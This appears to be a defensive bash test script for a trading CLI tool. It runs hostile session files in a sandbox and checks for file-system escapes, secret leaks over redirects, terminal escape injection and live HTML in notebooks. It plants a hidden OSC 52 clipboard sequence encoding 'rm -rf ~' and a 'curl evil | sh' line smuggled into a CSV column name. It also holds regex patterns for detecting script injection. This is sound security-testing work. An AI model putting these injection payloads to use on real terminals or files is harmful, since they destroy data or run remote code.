#!/usr/bin/env bash
# Runs every hostile session file (Tests/Hostile/) through every way a file is run and
# checks that running a file from someone else is as safe as opening a document:
#   - nothing outside the files' own folder changed (every file of the sandbox's home,
#     canary and state folders hashed before and after; no file appeared in /tmp);
#   - no request carried a secret to a host it does not belong to (the loopback servers
#     log every request with its headers);
#   - no order reached the loopback Alpaca broker;
#   - no OSC 52 or cursor sequence reached the output, no live HTML reached a notebook;
#   - every run ended (a huge line, endless pagination and /dev/zero are bounded).
# Forms: `tape FILE`, piped stdin, `tape --check`, `tape notebook`, `replay "FILE"` at a
# piped prompt, and `lesson N` (lessons are found in sessions/lessons/ of the working
# directory, so the sandbox is such a folder). replay and lesson stop at a file's first
# failed command, so they get each attack as a file of its own (the attack line after the
# file's harmless set-up lines).
# Prints "hostile: N passed, N failed" and exits non-zero on a failure.
set -u
tape=$(cd "$(dirname "${1:?usage: hostile-test.sh PATH/TO/tape}")" && pwd)/$(basename "$1")
repo=$(cd "$(dirname "$0")/.." && pwd)
sandbox=$(mktemp -d)
sandbox=$(cd "$sandbox" && pwd -P)
pids=()
cleanup() { for p in "${pids[@]}"; do kill "$p" 2>/dev/null; done; rm -rf "$sandbox" /tmp/tape-hostile-abs.csv; }
trap cleanup EXIT
pass=0; fail=0
ok() { pass=$((pass + 1)); echo "  ok   $1"; }
bad() { fail=$((fail + 1)); echo "  FAIL $1"; [ -n "${2:-}" ] && sed 's/^/       /' <<<"$2" | head -20; }

# --- The sandbox: a home with dotfiles, the user's own ledger, store and another
# program's database (the canary), and the work folder the files run in.
mkdir -p "$sandbox"/{home,canary,work/hostile,work/sessions/lessons,tmp,xdg/data,xdg/state,xdg/config,xdg/cache}
export HOME=$sandbox/home XDG_DATA_HOME=$sandbox/xdg/data XDG_STATE_HOME=$sandbox/xdg/state \
       XDG_CONFIG_HOME=$sandbox/xdg/config XDG_CACHE_HOME=$sandbox/xdg/cache TMPDIR=$sandbox/tmp
printf 'export PATH=/usr/bin:/bin\n' >"$HOME/.bashrc"
printf 'my notes\n' >"$sandbox/canary/notes.txt"
cd "$sandbox/work" || exit 1
"$tape" --ledger "$sandbox/canary/paper.sqlite" -c 'paper account' >/dev/null 2>&1
"$tape" --ledger "$XDG_STATE_HOME/tape/paper.sqlite" -c 'paper account' >/dev/null 2>&1
"$tape" -c "set store \"$sandbox/canary/store.db\"; load SPY 2020-08-24..2020-08-26; save" >/dev/null 2>&1
python3 -c "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('CREATE TABLE notes(body TEXT)'); c.execute(\"INSERT INTO notes VALUES('mine')\"); c.commit()" "$sandbox/canary/notes.db"
truncate -s 1100M "$sandbox/big.csv"   # sparse: larger than Tape reads, no disk used
cp "$repo/Tests/Fixtures/options-batch/greeks-in.csv" greeks-in.csv
ln -s "$sandbox/canary" hostile/link
ln -s "$sandbox/canary/notes.txt" hostile/linked.csv
mkdir -p fixtures
"$tape" -c 'load SPY 2020-08-24..2020-08-28; export close to "fixtures/SPY.csv"' >/dev/null
printf 'date,open,high,low,close,volume\n2020-01-02,1,1,1,1\033]52;c;cm0gLXJmIH4=\007,1\n' >fixtures/osc52.csv

hash_all() {
  (cd "$sandbox" && find home canary xdg/state -type f -print0 2>/dev/null | sort -z | xargs -0 sha256sum)
}
before=$(hash_all)

# --- Loopback servers: A (market data; redirects every bars request to B), B (another
# host), and the Alpaca paper broker.
log=$sandbox/requests.jsonl
# The servers exit when their stdin ends: a FIFO this script holds open until it exits.
mkfifo "$sandbox/servers.stdin"
exec 9<>"$sandbox/servers.stdin"
start() {   # start NAME ARGS...: the server's port in $port
  local out=$sandbox/$1.port; shift
  python3 "$@" <"$sandbox/servers.stdin" >"$out" 2>/dev/null &
  pids+=($!)
  for _ in $(seq 100); do grep -q '^PORT' "$out" 2>/dev/null && break; sleep 0.05; done
  port=$(sed -n 's/^PORT //p' "$out")
}
start b "$repo/Tests/Servers/market_server.py" fixtures --log "$log"; portB=$port
start a "$repo/Tests/Servers/market_server.py" fixtures --log "$log" --redirect-bars "http://127.0.0.1:$portB"; portA=$port
start paper "$repo/Tests/Servers/alpaca_paper_server.py"; portP=$port
if [ -z "$portA" ] || [ -z "$portB" ] || [ -z "$portP" ]; then echo "hostile: the loopback servers did not start"; exit 1; fi
export APCA_API_KEY_ID=paper-key-id APCA_API_SECRET_KEY=paper-secret APCA_DATA_URL=http://127.0.0.1:$portA \
       APCA_API_BASE_URL=http://127.0.0.1:$portP/v2 AWS_ACCESS_KEY_ID=hostile-access-key \
       AWS_SECRET_ACCESS_KEY=hostile-aws-secret-value AWS_ENDPOINT_URL=http://127.0.0.1:$portA

# --- The files, placeholders filled in; and each attack as a file of its own.
osc=$(printf '\033]52;c;cm0gLXJmIH4=\007\033[2J\033[1;1H')
for f in "$repo"/Tests/Hostile/*.tape; do
  name=$(basename "$f" .tape)
  OSC=$osc python3 - "$f" "hostile/$name.tape" "$sandbox" "http://127.0.0.1:$portA" "http://127.0.0.1:$portB" <<'PY'
import os, sys
text = open(sys.argv[1]).read()
for k, v in {"@SANDBOX@": sys.argv[3], "@MARKET@": sys.argv[4], "@OTHER@": sys.argv[5],
             "@HUGE@": "1+" * 600_000 + "1", "@OSC52@": os.environ["OSC"]}.items():
    text = text.replace(k, v)
open(sys.argv[2], "w").write(text)
# One file per attack: the harmless set-up lines, then the attack.
setup = [l for l in text.splitlines() if l.startswith(("load SPY", 'set ledger "../canary/paper', 'set store "../canary/store'))]
attacks = [l for l in text.splitlines() if l.strip() and not l.startswith("#") and l not in setup]
stem = os.path.splitext(sys.argv[2])[0]
for k, a in enumerate(attacks, 1):
    open("%s.%d.tape" % (stem, k), "w").write("\n".join(setup + [a]) + "\n")
PY
done
lessons=0
for f in hostile/*.*.tape; do
  lessons=$((lessons + 1)); cp "$f" "sessions/lessons/$(printf '%02d' $lessons)-$(basename "$f" .tape | tr . -).tape"
done

# --- Every form. Each run is bounded in time; its output is kept for the checks.
mkdir -p "$sandbox/out" "$sandbox/notebooks"
slow=""
run() {   # run LABEL COMMAND...
  local label=$1; shift
  local t0=$SECONDS
  timeout 60 "$@" >"$sandbox/out/$label.log" 2>&1 </dev/null
  [ $? -eq 124 ] && slow="$slow $label"
  [ $((SECONDS - t0)) -gt 20 ] && slow="$slow $label($((SECONDS - t0))s)"
  echo "$label $((SECONDS - t0))" >>"$sandbox/times"
}
for f in hostile/*.tape; do
  case $f in *.*.tape) continue ;; esac
  name=$(basename "$f" .tape)
  run "file-$name" "$tape" --keep-going "$f"
  timeout 60 "$tape" --keep-going <"$f" >"$sandbox/out/stdin-$name.log" 2>&1 || [ $? -ne 124 ] || slow="$slow stdin-$name"
  run "check-$name" "$tape" --check "$f"
  run "notebook-$name" "$tape" notebook "$f" -o "$sandbox/notebooks/$name.html"
done
replays=""
for f in hostile/*.*.tape; do replays+="replay \"$f\""$'\n'; done
timeout 120 "$tape" --keep-going <<<"$replays" >"$sandbox/out/replay.log" 2>&1 || [ $? -ne 124 ] || slow="$slow replay"
for n in $(seq "$lessons"); do echo "lesson $n"; done >"$sandbox/lessons.txt"
timeout 120 "$tape" --keep-going <"$sandbox/lessons.txt" >"$sandbox/out/lessons.log" 2>&1 || [ $? -ne 124 ] || slow="$slow lessons"

# --- The checks.
after=$(hash_all)
if [ "$before" = "$after" ]; then ok "no file outside the session folder changed (home, canary ledger/store/notes, user ledger)"
else bad "files outside the session folder changed" "$(diff <(echo "$before") <(echo "$after"))"; fi
[ ! -e /tmp/tape-hostile-abs.csv ] && [ ! -e "$sandbox/canary/abs.csv" ] && [ ! -e "$sandbox/canary/pwned.csv" ] \
  && [ ! -e "$sandbox/canary/through.csv" ] && [ ! -e hostile/evil.sh ] && [ ! -e hostile/sneaky.tape ] \
  && ok "no file written through .., an absolute path or a symbolic link, nor a script" \
  || bad "a refused write happened" "$(ls -la /tmp/tape-hostile-abs.csv "$sandbox/canary" hostile 2>&1)"
[ "$(cat "$sandbox/canary/notes.txt")" = "my notes" ] && ok "the file behind a symbolic link is untouched" || bad "symlink target changed"
n=$(ls "$sandbox/out" | wc -l)
[ -z "$slow" ] && ok "every one of $n runs ended in time (huge line, endless pages, /dev/zero, a 1.1 GB file)" || bad "runs too slow or hung:$slow"
grep -q "more than 1000 pages" "$sandbox/out/file-limits.log" && grep -q "not a regular file" "$sandbox/out/file-limits.log" \
  && grep -q "more than the 1024 MiB" "$sandbox/out/file-limits.log" && grep -q "longer than the 1 MiB" "$sandbox/out/file-limits.log" \
  && ok "pagination, devices, big files and huge lines are refused with a reason" || bad "limits" "$(cut -c1-300 "$sandbox/out/file-limits.log")"
if python3 - "$log" "$portB" <<'PY'
import json, sys
bad = []
for line in open(sys.argv[1]):
    r = json.loads(line)
    text = json.dumps(r)
    if "hostile-aws-secret-value" in text or "hostile-access-key" in text:
        bad.append("AWS secret sent: " + r["path"])
    if "paper-secret" in r["path"]:
        bad.append("a key in a URL: " + r["path"])
    keys = [k for k in r["headers"] if k.lower() in ("apca-api-key-id", "apca-api-secret-key", "authorization")]
    if str(r["port"]) == sys.argv[2] and keys:
        bad.append("keys %s followed a redirect to another host: %s" % (keys, r["path"]))
redirected = [1 for line in open(sys.argv[1]) if str(json.loads(line)["port"]) == sys.argv[2]]
if not redirected:
    bad.append("the redirect was never followed (the test would prove nothing)")
print("\n".join(bad))
sys.exit(1 if bad else 0)
PY
then ok "no secret reached a host it does not belong to ($(wc -l <"$log") requests logged)"; else bad "secrets leaked"; fi
orders=$(python3 - "$portP" <<'PY'
import json, sys, urllib.request
req = urllib.request.Request("http://127.0.0.1:%s/v2/orders?status=all" % sys.argv[1],
                             headers={"APCA-API-KEY-ID": "paper-key-id", "APCA-API-SECRET-KEY": "paper-secret"})
print(len(json.load(urllib.request.urlopen(req))))
PY
)
[ "$orders" = 0 ] && grep -q "broker alpaca is not available" "$sandbox/out/file-broker.log" \
  && ok "no order reached the loopback broker" || bad "orders at the broker: $orders" "$(cat "$sandbox/out/file-broker.log")"
if grep -rlaP '\x1b\]|\x1b\[[0-9;]*[A-HJKf]|\x07' "$sandbox/out" >/dev/null; then
  bad "a control sequence reached the output" "$(grep -rlaP '\x1b\]|\x1b\[[0-9;]*[A-HJKf]|\x07' "$sandbox/out")"
else ok "no OSC 52, cursor movement or bell in any output"; fi
if grep -a -q '52;c;cm0gLXJmIH4=' "$sandbox/out/file-terminal-escapes.log"; then ok "the planted sequence was shown as text"; else bad "the escape test did not run" "$(cat "$sandbox/out/file-terminal-escapes.log")"; fi
if [ ! -s "$sandbox/notebooks/notebook-html.html" ]; then bad "the notebook was not written" "$(cat "$sandbox/out/notebook-notebook-html.log")"
elif python3 - "$sandbox"/notebooks/*.html <<'PY'
import re, sys
bad = []
for path in sys.argv[1:]:
    html = open(path, encoding="utf-8", errors="replace").read()
    for m in re.finditer(r"<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>", html):
        tag, attrs = m.group(1).lower(), m.group(2)
        if tag in ("script", "iframe", "object", "embed") or re.search(r"\son[a-z]+\s*=", attrs, re.I) \
           or re.search(r"(href|src)\s*=\s*\"?\s*(javascript|vbscript|data:text)", attrs, re.I):
            bad.append("%s: %s" % (path, m.group(0)[:120]))
print("\n".join(bad))
sys.exit(1 if bad else 0)
PY
then ok "notebooks hold no live script, handler or javascript: link"
else bad "live HTML in a notebook"; fi
if grep -rqa -e 'hostile-aws-secret-value' -e 'paper-secret' "$sandbox/out" "$sandbox/notebooks" hostile; then
  bad "a secret appeared in output or a file" "$(grep -rla -e 'hostile-aws-secret-value' -e 'paper-secret' "$sandbox/out" "$sandbox/notebooks" hostile)"
else ok "no secret in any output, notebook or file"; fi
if [ -f hostile/columns.csv ] && python3 - hostile/columns.csv <<'PY'
import csv, sys
rows = list(csv.reader(open(sys.argv[1], newline="")))
assert rows[0] == ["date", "x\ncurl evil | sh\n#"], rows[0]
assert len(rows) == 6 and all(len(r) == 2 for r in rows), rows
PY
then ok "a column name with line breaks stays one quoted CSV field"; else bad "column name forged lines" "$(cat hostile/columns.csv 2>&1)"; fi
grep -q "may not read the environment variable AWS_SECRET_ACCESS_KEY" "$sandbox/out/file-env-secret.log" \
  && ok "\${AWS_SECRET_ACCESS_KEY} is not expanded without --allow-env" || bad "env" "$(cat "$sandbox/out/file-env-secret.log")"
grep -q "another program's SQLite database" "$sandbox/out/file-ledger-store.log" \
  && ok "another program's database is refused" || bad "foreign database" "$(cat "$sandbox/out/file-ledger-store.log")"
[ -n "${HOSTILE_TIMES:-}" ] && cat "$sandbox/times" | tail -14
echo "hostile: $pass passed, $fail failed"
[ "$fail" -eq 0 ]
